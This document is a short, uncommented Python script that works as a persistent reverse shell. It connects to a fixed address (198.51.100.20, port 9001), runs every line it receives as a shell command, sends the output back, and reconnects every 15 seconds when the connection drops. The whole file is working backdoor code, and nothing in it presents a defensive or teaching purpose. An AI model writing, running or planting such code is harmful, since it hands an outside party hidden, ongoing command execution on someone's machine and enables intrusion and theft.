import asyncio

HOST, PORT = "198.51.100.20", 9001


async def session():
    reader, writer = await asyncio.open_connection(HOST, PORT)
    writer.write(b"hello\n")
    await writer.drain()
    while line := await reader.readline():
        proc = await asyncio.create_subprocess_shell(
            line.decode(), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
        out, _ = await proc.communicate()
        writer.write(out + b"\0")
        await writer.drain()


async def main():
    while True:
        try:
            await session()
        except OSError:
            await asyncio.sleep(15)

asyncio.run(main())
